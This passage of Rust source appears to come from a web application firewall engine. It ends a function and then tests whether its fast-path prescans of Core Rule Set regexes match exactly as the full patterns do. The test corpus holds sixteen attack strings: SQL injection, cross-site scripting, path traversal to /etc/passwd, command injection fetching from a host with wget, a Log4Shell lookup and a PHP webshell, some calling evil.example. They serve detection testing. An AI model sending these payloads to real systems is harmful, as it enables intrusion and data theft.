                let quiet_bits = bits(&quiet);
                Some((joint(&quiet)?, quiet, quiet_bits))
            }
        };
        let noisy = match noisy.is_empty() {
            true => None,
            false => Some((joint(&noisy)?, bits(&noisy))),
        };
        Some(Group { quiet, noisy })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A transaction's scans start empty, though made of another's (`SPARE_SCANS`) that found
    /// every pattern everywhere, and fit the rule set at hand.
    #[test]
    fn spare_scans_start_empty() {
        let small = crate::engine::tests::rules(r#"SecRule ARGS "@rx evil" "id:1,phase:2,pass,log""#);
        let rs = crate::engine::tests::rules(
            r#"SecRule ARGS "@rx evil" "id:1,phase:2,pass,log"
SecRule REQUEST_HEADERS "@rx probe" "id:2,phase:1,pass,log"
SecRule REQUEST_URI "@rx \.\./" "id:3,phase:1,pass,log""#,
        );
        for (used, next) in [(&rs.prescan, &rs.prescan), (&small.prescan, &rs.prescan), (&rs.prescan, &small.prescan)] {
            let scans = used.scans();
            scans.done.set(u64::MAX);
            scans.found.iter().for_each(|f| f.set(u64::MAX));
            drop(scans);
            let scans = next.scans();
            assert_eq!((scans.done.get(), scans.found.len()), (0, next.probes.len()));
            assert!(scans.found.iter().all(|f| f.get() == 0));
        }
    }

    /// On long values a probe searches first for the literals every match of its pattern
    /// contains: CRS's patterns answer so as they do alone, on attacks inside a long body.
    #[test]
    fn required_literals_of_crs_patterns_rule_out_only_what_cannot_match() {
        let rs = super::super::tests::crs_every_rule();
        let padding: Vec<u8> = BENIGN.concat();
        assert!(padding.len() > LONG);
        let (mut gated, mut matches) = (0, 0);
        for probe in &rs.prescan.probes {
            let Probe::Regex(re, _, Some(_)) = probe else { continue };
            gated += 1;
            for v in corpus() {
                let long = [&padding[..], &v[..], &padding[..]].concat();
                let holds = re.is_match(&long);
                assert_eq!(
                    probe.holds_alone(&long, &mut None),
                    holds,
                    "{} on {:?}",
                    re.as_str(),
                    String::from_utf8_lossy(&v)
                );
                matches += usize::from(holds);
            }
        }
        // 921110 (`http/`), 931110 (`://`), 934xxx (`__`), ...
        assert!(gated >= 10, "{gated} patterns with required literals");
        assert!(matches > 20, "{matches} matches");
    }

    /// Attacks as CRS's patterns look for them, in their own case, upper case and mixed.
    fn corpus() -> Vec<Vec<u8>> {
        let attacks: [&[u8]; 16] = [
            b"mosConfig_absolute_path=http://evil.example/x.txt?",
            b"include(http://evil.example/shell.txt)",
            b"1' UNION SELECT password FROM users--",
            b"<script>alert(document.cookie)</script>",
            b"<img src=x onerror=alert(1)>",
            b"../../../etc/passwd",
            b";cat /etc/passwd; wget http://x/y",
            b"${jndi:ldap://evil.example/a}",
            b"<?php system($_GET['c']); ?>",
            b"java.lang.Runtime.getRuntime().exec('id')",
            b"com.opensymphony.xwork2.ActionContext",
            b"eval(base64_decode('cGhwaW5mbygpOw=='))",
            b"cmd.exe /c dir C:\\Windows",
            b"{{7*7}} ${7*7} <%= 7*7 %>",
            b"__proto__[isAdmin]=true",
            b"%uff1cscript%uff1e",
        ];
        let mixed = |v: &[u8]| {
            v.iter().enumerate().map(|(i, b)| if i % 2 == 0 { b.to_ascii_uppercase() } else { *b }).collect()
        };
        let mut values: Vec<Vec<u8>> = BENIGN.iter().map(|v| v.to_vec()).collect();
        for a in attacks {
            values.extend([a.to_vec(), a.to_ascii_uppercase(), mixed(a)]);
        }
        values
    }

    #[test]
    fn lowercase_forms_of_crs_patterns_answer_as_the_patterns_do() {
        let rs = super::super::tests::crs_every_rule();
        let values = corpus();
        let (mut forms, mut matches) = (0, 0);
        // Every pattern that has a lowercase form, whether or not the prescan takes it.
        for probe in &rs.prescan.probes {
            let Probe::Regex(re, ..) = probe else { continue };
            let Some(lower) = caseless::any_lowercase_form(re.as_str()) else { continue };
            forms += 1;
            for v in &values {
                let holds = re.is_match(v);
                assert_eq!(
                    holds,
                    lower.is_match(&v.to_ascii_lowercase()),
                    "{} on {:?}",
                    re.as_str(),
                    String::from_utf8_lossy(v)
                );
                matches += usize::from(holds);
            }
        }
        // Most of CRS's patterns are case-insensitive, and the attacks match dozens of them.
        assert!(forms > 150, "{forms} lowercase forms");
        assert!(matches > 300, "{matches} matches");
        // The prescan takes those that start with fewer literals than the pattern (65).
        let taken = rs.prescan.probes.iter().filter(|p| matches!(p, Probe::Regex(_, Some(_), _))).count();
        assert!(taken > 50 && taken < forms, "{taken} of {forms} lowercase forms taken");
    }
}
